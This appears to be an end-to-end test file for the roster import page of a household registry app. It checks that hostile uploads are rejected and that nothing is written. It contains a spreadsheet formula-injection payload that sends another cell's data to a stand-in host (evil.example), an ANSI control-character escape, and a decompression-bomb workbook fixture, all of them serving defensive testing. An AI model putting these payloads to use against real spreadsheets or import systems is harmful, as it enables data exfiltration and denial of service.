import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { divisionIndex } from '../../src/registry/divisions.ts';
import { makeIdNumber } from '../../src/registry/id-number.ts';
import { sharedStringBomb } from '../../src/registry/import/hostile.fixtures.ts';
import { rosterCsv, sampleRoster } from '../../src/registry/import/roster.fixtures.ts';
import { apiLogin } from './support/api.ts';
import { launchBrowser, newPage, screenshot } from './support/browser.ts';
import { startServer, type RunningServer } from './support/server.ts';

/**
 * Hostile rosters on the import page (issue 7, items 8 and 13), as the 控江路街道 caseworker sees them:
 * formula and control characters refused cell by cell, a file over the row cap (set to 50,000 here)
 * refused by one line, thousands of errors counted with the first thousand listed a page at a time,
 * a tiny workbook hiding a 50 MB cell refused by one line. Nothing is written. Screenshots in
 * artifacts/e2e/import-*.png.
 */
const MAX_ROWS = 50_000;
let server: RunningServer;
let browser: Browser;
let page: Page;
let committee: string;

async function householdCount(): Promise<number> {
  const account = server.accounts.get('approver');
  if (!account) throw new Error('first start did not create approver');
  const agent = await apiLogin(server.baseUrl, 'approver', account.password);
  return (await agent.get<{ total: number }>('/api/households?limit=1')).total;
}

async function dryRun(name: string, buffer: Buffer, mimeType = 'text/csv'): Promise<void> {
  await page.goto(`${server.baseUrl}/import`);
  await page.setInputFiles('[data-test=import-upload] input[type=file]', { name, mimeType, buffer });
  await page.click('[data-test=import-dry-run]');
  await page.locator('[data-test=import-summary]').waitFor();
}

const summary = async () => (await page.textContent('[data-test=import-summary]')) ?? '';
const caption = async () => (await page.textContent('[data-test=import-errors-caption]')) ?? '';
const table = async () => (await page.textContent('[data-test=import-errors]')) ?? '';

beforeAll(async () => {
  server = await startServer({ persons: 500, config: { MINZHENG_IMPORT_MAX_ROWS: String(MAX_ROWS) } });
  committee = divisionIndex().children('310110012')[0]!.code;
  browser = await launchBrowser();
  page = await newPage(browser);
  const account = server.accounts.get('caseworker');
  if (!account) throw new Error('first start did not create caseworker');
  await page.goto(`${server.baseUrl}/login`);
  await page.fill('input[name=username]', 'caseworker');
  await page.fill('input[name=password]', account.password);
  await page.click('[data-test=login-submit]');
  await page.waitForURL((url) => !url.pathname.startsWith('/login'));
});

afterAll(async () => {
  await browser?.close();
  await server?.close();
});

describe('台账导入：恶意或超限的文件（街道经办人）', () => {
  it('以 = + - @ 开头的姓名、地址和控制字符逐格拒绝，说明原因', async () => {
    const before = await householdCount();
    const rows = sampleRoster(2, committee, 'E2EF', 7000);
    rows[0]!.name = '=HYPERLINK("http://evil.example/?x="&D2,"点我")';
    rows[1]!.name = '-1';
    rows[2]!.address = '示例路\u001b[31m1号';
    rows[3]!.address = '@SUM(A1)';
    rows[4]!.address = '@SUM(A1)';
    await dryRun('formula.csv', Buffer.from(rosterCsv(rows)));
    expect(await summary()).toContain('发现 5 处错误，未写入任何数据');
    const text = await table();
    expect(text).toContain('不能以 =、+、-、@ 开头（电子表格软件会把它当作公式执行）');
    expect(text).toContain('包含不允许的控制字符');
    expect(text).toContain('\\u001b'); // shown as text, not sent to the screen as an escape
    expect(await page.locator('[data-test=import-commit]').isDisabled()).toBe(true);
    await screenshot(page, 'import-11-formula-and-control');
    expect(await householdCount()).toBe(before);
  });

  it('超过行数上限的 10 万行文件：一条错误说明上限，未写入任何数据', async () => {
    const before = await householdCount();
    const rows = sampleRoster(40_000, committee, 'E2EBIG', 8000);
    expect(rows.length).toBe(100_000);
    await dryRun('big.csv', Buffer.from(rosterCsv(rows)));
    expect(await summary()).toContain('发现 1 处错误，未写入任何数据');
    expect(await table()).toContain('整个文件');
    expect(await table()).toContain('文件超过 50,000 行的上限（MINZHENG_IMPORT_MAX_ROWS，不含表头）');
    await screenshot(page, 'import-12-row-cap');
    expect(await householdCount()).toBe(before);
  });

  it('数千处错误：给出总数，列出前 1,000 条，分页查看', async () => {
    const rows = sampleRoster(1200, committee, 'E2EMANY', 60_000).map((row) => ({ ...row, wage: '-1' }));
    await dryRun('many.csv', Buffer.from(rosterCsv(rows)));
    const total = rows.length.toLocaleString('en-US');
    expect(await summary()).toContain(`发现 ${total} 处错误，未写入任何数据`);
    expect(await caption()).toBe(`错误明细（显示前 1,000 条，共 ${total} 条）：请修改台账后重新校验。`);
    expect(await page.locator('[data-test=import-errors] tbody tr').count()).toBe(50);
    await page.locator('[data-test=import-errors-pager]').waitFor();
    await screenshot(page, 'import-13-many-errors');
  });

  it('60 KB 的工作簿藏着 50 MB 的单元格：一条错误，未写入任何数据', async () => {
    const before = await householdCount();
    const bomb = sharedStringBomb(50, [
      makeIdNumber('310110', '1950-01-01', 11),
      makeIdNumber('310110', '1951-01-01', 13),
    ]);
    await dryRun('bomb.xlsx', bomb, 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(await summary()).toContain('发现 1 处错误，未写入任何数据');
    expect(await table()).toContain('工作簿中有单元格超过 1,000 个字符的上限');
    await screenshot(page, 'import-14-shared-string-bomb');
    expect(await householdCount()).toBe(before);
  });
});
